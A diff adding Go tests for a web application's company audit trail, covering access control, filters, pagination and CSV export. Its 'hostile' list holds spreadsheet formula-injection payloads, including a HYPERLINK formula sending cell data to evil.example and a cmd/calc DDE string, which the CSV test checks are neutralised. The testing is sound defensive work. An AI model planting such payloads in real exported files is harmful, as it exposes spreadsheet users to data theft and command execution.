@@ -1,0 +1,245 @@
+package server_test
+
+import (
+	"encoding/csv"
+	"fmt"
+	"net/http"
+	"net/url"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"bilag/db"
+)
+
+var auditRowRe = regexp.MustCompile(`(?s)<tr>\s*<td class="nowrap">([^<]*)</td>\s*<td>([^<]*)</td>\s*<td>([^<]*)</td>\s*<td>([^<]*)</td>`)
+
+// auditRows reads the audit page's rows as "who | what | target".
+func auditRows(t *testing.T, r *response) []string {
+	t.Helper()
+	wantStatus(t, "audit page", r, http.StatusOK)
+	var rows []string
+	for _, m := range auditRowRe.FindAllStringSubmatch(r.Body, -1) {
+		rows = append(rows, unescape(m[2])+" | "+unescape(m[3])+" | "+unescape(m[4]))
+	}
+	return rows
+}
+
+func unescape(s string) string { return (&response{Body: s}).Text() }
+
+// TestAuditTrail: what an analyst does to a connected company (the link,
+// the approval, a document opened, "Sync now", disconnecting) is on the
+// company's audit trail with who did it and when, in a zone the page names;
+// viewers and non-members do not see it.
+func TestAuditTrail(t *testing.T) {
+	d := newDocEnv(t)
+	vs := d.vouchers(db.VoucherFilter{HasDocuments: true})
+	if len(vs) == 0 {
+		t.Fatal("the sandbox company has no voucher with documents")
+	}
+	_, docs := d.openVoucher(d.analyst, vs[0])
+	if len(docs) == 0 {
+		t.Fatal("voucher page links no document")
+	}
+	wantStatus(t, "open document", d.analyst.get(docs[0]), http.StatusOK)
+	fj := "/companies/" + itoa(d.fj.ID)
+	wantStatus(t, "sync now", d.analyst.post(fj+"/sync", nil), http.StatusSeeOther)
+	wantStatus(t, "disconnect", d.analyst.post(fj+"/connection/disconnect", url.Values{"confirm": {"yes"}}), http.StatusSeeOther)
+	doc, err := d.db.VoucherDocuments(t.Context(), d.fj.ID, vs[0].ID)
+	if err != nil || len(doc) == 0 {
+		t.Fatalf("VoucherDocuments() = %v, %v", doc, err)
+	}
+
+	r := d.analyst.get(fj + "/audit")
+	got := auditRows(t, r)
+	analyst := d.env.analyst.Email
+	for _, want := range []string{
+		analyst + " | " + tr("audit.action.disconnect"),
+		analyst + " | " + tr("audit.action.sync_request"),
+		analyst + " | " + tr("audit.action.document_open") + " | " + doc[0].FileName,
+		tr("audit.action.connect"),
+		analyst + " | " + tr("audit.action.link_create"),
+	} {
+		if !slices.ContainsFunc(got, func(row string) bool { return strings.Contains(row, want) }) {
+			t.Errorf("audit trail has no row %q; rows:\n%s", want, strings.Join(got, "\n"))
+		}
+	}
+	if i, j := slices.IndexFunc(got, func(r string) bool { return strings.Contains(r, tr("audit.action.disconnect")) }),
+		slices.IndexFunc(got, func(r string) bool { return strings.Contains(r, tr("audit.action.link_create")) }); i > j {
+		t.Errorf("the trail is not newest first: disconnect at row %d, link at %d", i, j)
+	}
+	zone := d.clock.Now().In(time.Local).Format("MST")
+	if !regexp.MustCompile(`<td class="nowrap">\d{4}-\d\d-\d\d \d\d:\d\d:\d\d ` + regexp.QuoteMeta(zone) + `</td>`).MatchString(r.Body) {
+		t.Errorf("audit times do not carry their zone %s", zone)
+	}
+	if page := d.analyst.get(fj); !strings.Contains(page.Body, `href="`+fj+`/audit"`) {
+		t.Errorf("the company page does not link its audit trail for an analyst")
+	}
+
+	if r := d.viewer.get(fj + "/audit"); r.Status != http.StatusForbidden {
+		t.Errorf("GET audit as viewer = %d, want 403", r.Status)
+	}
+	if page := d.viewer.get(fj); strings.Contains(page.Body, fj+"/audit") {
+		t.Errorf("the company page links the audit trail for a viewer")
+	}
+	for _, p := range []string{"/audit", "/audit.csv"} {
+		path := "/companies/" + itoa(d.hidden.ID) + p
+		if r := d.analyst.get(path); r.Status != http.StatusNotFound || strings.Contains(r.Body, d.hidden.Name) {
+			t.Errorf("GET %s as a non-member = %d, want 404 without the company's name", path, r.Status)
+		}
+	}
+}
+
+// auditSeed writes events for Fjällbacka a day apart, and one for another
+// company; it returns the local day of each Fjällbacka event.
+func (e *env) auditSeed(events ...db.AuditEvent) []string {
+	e.t.Helper()
+	var days []string
+	for _, ev := range events {
+		ev.CompanyID = &e.fj.ID
+		if err := e.db.Audit(e.t.Context(), ev); err != nil {
+			e.t.Fatal(err)
+		}
+		days = append(days, e.clock.Now().In(time.Local).Format("2006-01-02"))
+		e.clock.Advance(24 * time.Hour)
+	}
+	other := db.AuditEvent{Action: db.AuditDocumentOpen, Actor: e.analyst.Email, CompanyID: &e.norrsken.ID, Target: "norrsken.pdf"}
+	if err := e.db.Audit(e.t.Context(), other); err != nil {
+		e.t.Fatal(err)
+	}
+	return days
+}
+
+// hostile are file names a spreadsheet would run as formulas.
+var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"Faktura")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"}
+
+// TestAuditFilters: each filter (what, who, from, to) narrows the page and
+// the CSV alike; dates in the wrong order are said, not obeyed.
+func TestAuditFilters(t *testing.T) {
+	e := newEnv(t)
+	admin, analyst := e.admin.Email, e.analyst.Email
+	days := e.auditSeed(
+		db.AuditEvent{Action: db.AuditLinkCreate, Actor: analyst, Target: "link 1"},
+		db.AuditEvent{Action: db.AuditDocumentOpen, Actor: analyst, Target: "faktura.pdf"},
+		db.AuditEvent{Action: db.AuditDocumentOpen, Actor: admin, Target: "kvitto.jpg"},
+		db.AuditEvent{Action: db.AuditDisconnect, Actor: admin, Target: "eaccounting"},
+	)
+	b := e.loggedIn(e.analyst)
+	base := "/companies/" + itoa(e.fj.ID) + "/audit"
+	tests := []struct {
+		name  string
+		query url.Values
+		want  []string // targets, newest first
+	}{
+		{"everything", nil, []string{"eaccounting", "kvitto.jpg", "faktura.pdf", "link 1"}},
+		{"what", url.Values{"action": {db.AuditDocumentOpen}}, []string{"kvitto.jpg", "faktura.pdf"}},
+		{"who", url.Values{"actor": {admin}}, []string{"eaccounting", "kvitto.jpg"}},
+		{"from", url.Values{"from": {days[2]}}, []string{"eaccounting", "kvitto.jpg"}},
+		{"to (whole day)", url.Values{"to": {days[1]}}, []string{"faktura.pdf", "link 1"}},
+		{"one day", url.Values{"from": {days[1]}, "to": {days[1]}}, []string{"faktura.pdf"}},
+		{"all at once", url.Values{"action": {db.AuditDocumentOpen}, "actor": {analyst}, "from": {days[0]}, "to": {days[3]}}, []string{"faktura.pdf"}},
+		{"nothing", url.Values{"actor": {"nobody@firm.test"}}, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var page []string
+			for _, row := range auditRows(t, b.get(base+"?"+tt.query.Encode())) {
+				page = append(page, row[strings.LastIndex(row, " | ")+3:])
+			}
+			if !slices.Equal(page, tt.want) {
+				t.Errorf("page rows = %q, want %q", page, tt.want)
+			}
+			var file []string
+			for _, rec := range readAuditCSV(t, b.get(base+".csv?"+tt.query.Encode()))[1:] {
+				file = append(file, rec[3])
+			}
+			if !slices.Equal(file, tt.want) {
+				t.Errorf("CSV rows = %q, want %q", file, tt.want)
+			}
+		})
+	}
+	r := b.get(base + "?from=" + days[2] + "&to=" + days[0])
+	wantText(t, "dates in the wrong order", r, tr("audit.err.order"))
+	if got := auditRows(t, r); len(got) != 4 {
+		t.Errorf("with the dates refused the page has %d rows, want all 4", len(got))
+	}
+	if r := b.get(base + ".csv?from=" + days[2] + "&to=" + days[0]); r.Status != http.StatusBadRequest {
+		t.Errorf("CSV with dates in the wrong order = %d, want 400", r.Status)
+	}
+}
+
+func readAuditCSV(t *testing.T, r *response) [][]string {
+	t.Helper()
+	wantStatus(t, "audit CSV", r, http.StatusOK)
+	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
+		t.Errorf("Content-Type = %q, want text/csv; charset=utf-8", ct)
+	}
+	if cd := r.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=") {
+		t.Errorf("Content-Disposition = %q, want an attachment", cd)
+	}
+	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatalf("CSV does not parse: %v\n%s", err, r.Body)
+	}
+	if len(recs) == 0 || !slices.Equal(recs[0], []string{"time", "actor", "action", "target", "detail", "remote_ip"}) {
+		t.Fatalf("CSV header = %q", recs)
+	}
+	return recs
+}
+
+// TestAuditCSV: the export has a header, times with their offset, and
+// hostile file names made harmless text for spreadsheets.
+func TestAuditCSV(t *testing.T) {
+	e := newEnv(t)
+	var evs []db.AuditEvent
+	for _, h := range hostile {
+		evs = append(evs, db.AuditEvent{Action: db.AuditDocumentOpen, Actor: e.analyst.Email, Target: h, Detail: h, RemoteIP: "192.0.2.7"})
+	}
+	e.auditSeed(evs...)
+	recs := readAuditCSV(t, e.loggedIn(e.admin).get("/companies/"+itoa(e.fj.ID)+"/audit.csv"))[1:]
+	if len(recs) != len(hostile) {
+		t.Fatalf("CSV has %d rows, want %d (Fjällbacka's only)", len(recs), len(hostile))
+	}
+	for i, rec := range recs {
+		h := hostile[len(hostile)-1-i]
+		if rec[3] != "'"+h || rec[4] != "'"+h {
+			t.Errorf("row %d target, detail = %q, %q; want %q with a leading quote", i, rec[3], rec[4], h)
+		}
+		if at, err := time.Parse(time.RFC3339, rec[0]); err != nil || rec[1] != e.analyst.Email || rec[2] != db.AuditDocumentOpen || rec[5] != "192.0.2.7" {
+			t.Errorf("row %d = %q (time: %v), want an RFC 3339 time, the analyst, document_open and the address", i, rec, err)
+		} else if _, off := at.Zone(); off != func() int { _, o := at.In(time.Local).Zone(); return o }() {
+			t.Errorf("row %d time %s is not in the audit zone", i, rec[0])
+		}
+	}
+}
+
+// TestAuditPages: a hundred events a page, with links both ways.
+func TestAuditPages(t *testing.T) {
+	e := newEnv(t)
+	for i := range 101 {
+		if err := e.db.Audit(t.Context(), db.AuditEvent{Action: db.AuditDocumentOpen, Actor: e.analyst.Email, CompanyID: &e.fj.ID, Target: fmt.Sprintf("doc-%03d.pdf", i)}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	b := e.loggedIn(e.analyst)
+	base := "/companies/" + itoa(e.fj.ID) + "/audit?action=document_open"
+	first := b.get(base)
+	if rows := auditRows(t, first); len(rows) != 100 || !strings.HasSuffix(rows[0], "doc-100.pdf") {
+		t.Fatalf("page 1 has %d rows starting %q, want 100 starting with doc-100.pdf", len(rows), rows[:min(1, len(rows))])
+	}
+	if !strings.Contains(first.Body, `page=2" rel="next"`) || !strings.Contains(first.Body, "action=document_open&amp;page=2") {
+		t.Errorf("page 1 has no link to page 2 keeping the filter")
+	}
+	second := b.get(base + "&page=2")
+	if rows := auditRows(t, second); len(rows) != 1 || !strings.HasSuffix(rows[0], "doc-000.pdf") {
+		t.Errorf("page 2 = %q, want doc-000.pdf alone", rows)
+	}
+	if strings.Contains(second.Body, `rel="next"`) || !strings.Contains(second.Body, `rel="prev"`) {
+		t.Errorf("page 2 links onwards or not back")
+	}
+	if recs := readAuditCSV(t, b.get("/companies/"+itoa(e.fj.ID)+"/audit.csv")); len(recs) != 102 {
+		t.Errorf("CSV has %d lines, want the header and all 101 events", len(recs))
+	}
+}
